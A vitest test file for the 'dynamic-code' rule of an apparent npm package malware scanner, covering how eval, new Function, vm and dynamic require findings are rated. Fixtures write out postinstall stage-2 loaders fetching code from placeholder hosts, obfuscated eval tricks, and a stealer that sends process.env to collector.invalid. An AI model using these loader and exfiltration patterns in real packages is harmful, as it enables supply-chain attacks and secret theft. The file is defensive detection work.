import { describe, expect, test } from 'vitest';
import { manifest, scanFiles } from '../test/helpers/analyze.js';
import { expectAtMostInfo, finding } from '../test/helpers/findings.js';

const RULE = 'dynamic-code';

describe('dynamic-code reports', () => {
  test('eval of base64-decoded code is high and at least suspicious', () => {
    const r = scanFiles({ 'index.js': "eval(Buffer.from('Y29uc29sZS5sb2coMSk=', 'base64').toString());" });
    expect(r.of(RULE)).toEqual([finding('high', ['dynamic-code', 'dynamic-code:decoded'], { message: expect.stringContaining('eval') })]);
    expect(r.verdict).toBe('suspicious');
  });

  test('a postinstall stage-2 loader (download, base64-decode, eval) is malicious', () => {
    const r = scanFiles({
      'package.json': manifest({ scripts: { postinstall: 'node i.js' } }),
      'i.js': "const https = require('https');\nhttps.get('https://payload.invalid/stage2', (res) => {\n  let d = '';\n  res.on('data', (c) => (d += c));\n  res.on('end', () => eval(Buffer.from(d, 'base64').toString('utf8')));\n});",
    });
    expect(r.of(RULE)).toContainEqual(finding('critical', ['dynamic-code:decoded', 'dynamic-code:remote'], { reach: 'install' }));
    expect(r.verdict).toBe('malicious');
    expect(r.score).toBeGreaterThanOrEqual(90);
  });

  test.each([
    ["globalThis['ev' + 'al'] on atob", "const g = globalThis;\nconst k = 'ev' + 'al';\ng[k](atob('Y29uc29sZS5sb2coMSk='));"],
    ['(0, eval) on String.fromCharCode', '(0, eval)(String.fromCharCode(99,111,110,115,111,108,101,46,108,111,103,40,49,41));'],
    ['new Function on hex', "new Function(Buffer.from('636f6e736f6c652e6c6f67283129', 'hex').toString())();"],
  ])('indirect eval through %s is resolved and high', (_label, code) => {
    const r = scanFiles({ 'index.js': code });
    expect(r.of(RULE)).toContainEqual(finding('high', ['dynamic-code:decoded']));
    expect(r.verdict).not.toBe('clean');
  });

  test('fetching code from a hard-coded host and running it with new Function at postinstall is malicious', () => {
    const r = scanFiles({
      'package.json': manifest({ scripts: { postinstall: 'node index.js' } }),
      'index.js': "fetch('https://payload.invalid/p').then((r) => r.text()).then((code) => new Function('require', code)(require));",
    });
    expect(r.of(RULE)).toEqual([finding('critical', ['dynamic-code', 'dynamic-code:remote'], { message: expect.stringContaining('Function') })]);
    expect(r.verdict).toBe('malicious');
  });

  test('vm.runInThisContext on run-time input is medium', () => {
    const r = scanFiles({ 'index.js': "const vm = require('vm');\nmodule.exports = (src) => vm.runInThisContext(src);" });
    expect(r.of(RULE)).toEqual([finding('medium', ['dynamic-code'], { message: expect.stringContaining('vm.runInThisContext') })]);
  });

  test('setTimeout with a string argument is medium', () => {
    const r = scanFiles({ 'index.js': "setTimeout('console.log(' + JSON.stringify(process.argv) + ')', 10);" });
    expect(r.of(RULE)).toEqual([finding('medium', ['dynamic-code'], { message: expect.stringContaining('setTimeout') })]);
  });

  test('eval of a constant string is low', () => {
    const r = scanFiles({ 'index.js': "eval('1 + 1');" });
    expect(r.of(RULE)).toEqual([finding('low', ['dynamic-code:visible'], { message: expect.stringContaining('constant') })]);
  });

  test('require() of a base64-hidden module name is medium obfuscation', () => {
    const r = scanFiles({ 'index.js': "const cp = require(Buffer.from('Y2hpbGRfcHJvY2Vzcw==', 'base64').toString());\ncp.exec('id');" });
    expect(r.of(RULE)).toEqual([finding('medium', ['dynamic-require', 'obfuscation'], { message: expect.stringContaining('"child_process", decoded through base64') })]);
    // The hidden name still resolves for the other rules.
    expect(r.of('process-exec')).toHaveLength(1);
  });

  test('eval of a payload decoded into a variable first is high', () => {
    const r = scanFiles({ 'index.js': "const payload = 'Y29uc29sZS5sb2coMSk=';\nconst code = Buffer.from(payload, 'base64').toString();\neval(code);" });
    expect(r.of(RULE)).toContainEqual(finding('high', ['dynamic-code:decoded']));
  });

  test('Module.prototype._compile through new Module() is dynamic code', () => {
    const r = scanFiles({ 'index.js': "const Module = require('module');\nconst m = new Module('x');\nm._compile(require('fs').readFileSync(__dirname + '/data.bin', 'utf8'), 'x.js');" });
    expect(r.of(RULE)).toContainEqual(finding('medium', ['dynamic-code']));
  });

  test('import() of a base64-hidden module name is obfuscation like require()', () => {
    const r = scanFiles({
      'package.json': manifest({ main: 'index.mjs' }),
      'index.mjs': "const m = await import(Buffer.from('Y2hpbGRfcHJvY2Vzcw==', 'base64').toString());\nm.exec('id');",
    });
    expect(r.of(RULE)).toContainEqual(finding('medium', ['obfuscation']));
  });
});

describe('dynamic-code stays quiet', () => {
  test.each([
    "var g = Function('return this')();\nmodule.exports = g;",
    "var root = typeof globalThis !== 'undefined' ? globalThis : new Function('return this')();\nmodule.exports = root;",
    "module.exports = Function('\"use strict\"; return this')();",
  ])('the global-object idiom: %s', (code) => {
    const r = scanFiles({ 'index.js': code });
    expect(r.of(RULE)).toEqual([]);
    expect(r.verdict).toBe('clean');
  });

  test('a plugin loader requiring a computed path is info only', () => {
    const r = scanFiles({ 'index.js': "const path = require('path');\nmodule.exports = (name) => require(path.join(process.cwd(), 'plugins', name));" });
    expect(r.of(RULE)).toEqual([finding('info', ['dynamic-require'])]);
    expect(r.verdict).toBe('clean');
  });

  test('require of a constant held in a variable', () => {
    const r = scanFiles({ 'index.js': "const name = 'lodash';\nmodule.exports = require(name);\nmodule.exports.env = process.env.NODE_ENV;" });
    expect(r.of(RULE)).toEqual([]);
  });

  test('timers with function callbacks', () => {
    const r = scanFiles({ 'index.js': "setTimeout(() => console.log('tick'), 10);\nsetInterval(function () { process.stdout.write('.'); }, 1000).unref();" });
    expect(r.of(RULE)).toEqual([]);
    expect(r.verdict).toBe('clean');
  });

  test('lazy-loading locale files with a template import()', () => {
    const r = scanFiles({ 'package.json': manifest({ main: 'index.mjs' }), 'index.mjs': 'export const load = (locale) => import(`./locales/${locale}.js`);' });
    expectAtMostInfo(r.of(RULE));
    expect(r.verdict).toBe('clean');
  });
});

describe('dynamic-code: decoded code is what came out of a decoder, where code runs', () => {
  // A wasm-glue-style wrapper: the function name comes out of a UTF-8 decoder over memory, but it only
  // names the wrapper; the code is the literal text around it.
  const glue = [
    'const strings = { utf8(bytes, len) { let s = ""; for (let i = 0; i < len; i++) s += String.fromCharCode(bytes[i]); return s; } };',
    'function wrap(fn, bytes, len) {',
    '  const name = strings.utf8(bytes, len);',
    "  if (!/^[_$a-zA-Z][_$a-zA-Z0-9]*$/.test(name)) return fn;",
    `  return new Function('_', 'return function ' + name + '(){' + '"use strict";' + 'return _.apply(this,arguments);' + '};')(fn);`,
    '}',
    "module.exports = { wrap, load: (url) => fetch(url) };",
  ].join('\n');

  test('a decoded name in a code template is a code generator: low, not decoded', () => {
    const r = scanFiles({ 'index.js': glue });
    expect(r.of(RULE)).toEqual([finding('low', ['dynamic-code:visible'], { message: expect.stringContaining('template written in literals') })]);
    expect(r.of(RULE)[0]?.signals).not.toContain('dynamic-code:decoded');
  });

  test('template engines quoting decoded data into a string of the generated code are not decoded code', () => {
    const r = scanFiles({ 'index.js': `module.exports = (enc) => new Function('data', 'return "' + decodeURIComponent(enc) + '" + data;');` });
    expect(r.of(RULE)).toEqual([finding('low', ['dynamic-code:visible'])]);
  });

  test('its twin, where the decoder output is the code, stays decoded', () => {
    const twin = glue.replace(`'return function ' + name + '(){' + '"use strict";' + 'return _.apply(this,arguments);' + '};'`, "'return ' + name");
    const r = scanFiles({ 'index.js': twin });
    expect(r.of(RULE)).toEqual([finding('high', ['dynamic-code', 'dynamic-code:decoded'])]);
  });

  test.each([
    ['eval(atob(...)) of a constant', "eval(atob('Y29uc29sZS5sb2coMSk='));"],
    ['new Function of a custom-decoded payload', "const d = (s) => s.split(',').map((c) => String.fromCharCode(+c)).join('');\nnew Function(d(process.argv[2]))();"],
    ['a decoded payload wrapped in parentheses', "module.exports = (p) => eval('(' + Buffer.from(p, 'base64').toString() + ')');"],
    ['printable text spelled as escapes', "eval('\\x63\\x6f\\x6e\\x73\\x6f\\x6c\\x65.log(1)');"],
  ])('%s is decoded', (_label, code) => {
    const r = scanFiles({ 'index.js': code });
    expect(r.of(RULE)).toContainEqual(finding('high', ['dynamic-code:decoded']));
  });
});

describe('dynamic-code: code written to a file and then run', () => {
  test('a stealer written to disk and required is analyzed at the require', () => {
    const r = scanFiles({
      'package.json': manifest({ scripts: { postinstall: 'node index.js' } }),
      'index.js': [
        "const fs = require('fs'); const path = require('path');",
        "const stage2 = \"require('https').request('https://collector.invalid').end(JSON.stringify(process.env))\";",
        "const p = path.join(require('os').tmpdir(), 'stage2.js');",
        'fs.writeFileSync(p, stage2);',
        'require(p);',
      ].join('\n'),
    });
    expect(r.of(RULE).map((f) => f.message)).toContainEqual(expect.stringContaining('stage2.js, which this file wrote'));
    expect(r.of('exfiltration-flow')[0]?.message).toContain('in code decoded at index.js:5');
    expect(r.verdict).toBe('malicious');
  });

  test('a test writing a module from literals and forking it is dynamic code, not decoded', () => {
    const r = scanFiles({
      'test/fork.test.js': "const fs = require('fs'); const cp = require('child_process'); const path = require('path');\nconst dir = path.join(__dirname, 'tmp');\nfs.writeFileSync(path.join(dir, 'index.js'), 'module.exports.foo = function foo () { throw new Error(1) }');\ncp.fork(path.resolve(dir, 'index.js'), { env: { ...process.env } });",
    });
    expect(r.of(RULE)).toEqual([finding('medium', ['dynamic-code'], { message: expect.stringContaining('index.js, which this file wrote') })]);
    expect(r.of(RULE)[0]?.signals).not.toContain('dynamic-code:decoded');
  });

  test('its twin, writing a base64-decoded payload and requiring it, is decoded', () => {
    const r = scanFiles({
      'index.js': "const fs = require('fs'); const path = require('path');\nconst p = path.join(require('os').tmpdir(), 'stage2.js');\nfs.writeFileSync(p, Buffer.from('Y29uc29sZS5sb2coMSk=', 'base64').toString());\nrequire(p);",
    });
    expect(r.of(RULE)).toContainEqual(finding('high', ['dynamic-code:decoded'], { message: expect.stringContaining('decoded through base64') }));
  });

  test('writing a generated config file and never running it is not dynamic code', () => {
    const r = scanFiles({ 'index.js': "const fs = require('fs');\nfs.writeFileSync('out/config.js', 'module.exports = {};');\nconsole.log('done');" });
    expect(r.of(RULE)).toEqual([]);
  });
});

describe('dynamic-code: code that comes back from a server the package names', () => {
  test('eval of an axios response from a hard-coded host is remote code, with the path from the response', () => {
    const r = scanFiles({ 'index.js': "const axios = require('axios');\naxios.get('https://cdn-assets.invalid/v2/init').then((res) => eval(res.data));" });
    expect(r.of(RULE)).toEqual([finding('critical', ['dynamic-code', 'dynamic-code:remote'], { message: expect.stringContaining('response of axios.get(https://cdn-assets.invalid/v2/init)') })]);
  });

  test('chunks gathered with `body += chunk` from https.get and run with Function are remote code', () => {
    const r = scanFiles({
      'index.js': "require('https').get('https://203.0.113.7/s.js', (res) => { let body = ''; res.on('data', (c) => (body += c)); res.on('end', () => new Function('require', body)(require)); });",
    });
    expect(r.of(RULE)).toEqual([finding('critical', ['dynamic-code', 'dynamic-code:remote'], { message: expect.stringContaining('stored into body') })]);
  });

  test('a module loader running what its caller asks it to fetch is dynamic code, not a download the package chose', () => {
    const r = scanFiles({ 'index.js': 'module.exports = (url) => fetch(url).then((r) => r.text()).then((src) => (0, eval)(src));' });
    expect(r.of(RULE)).toEqual([finding('medium', ['dynamic-code'])]);
  });

  test('a response used as data next to an eval of something else is not remote code', () => {
    const r = scanFiles({ 'index.js': "fetch('https://api.example.invalid/v1/config').then((r) => r.json()).then((cfg) => console.log(cfg));\nmodule.exports = (expr) => eval(expr);" });
    expect(r.of(RULE)).toEqual([finding('medium', ['dynamic-code'])]);
  });
});
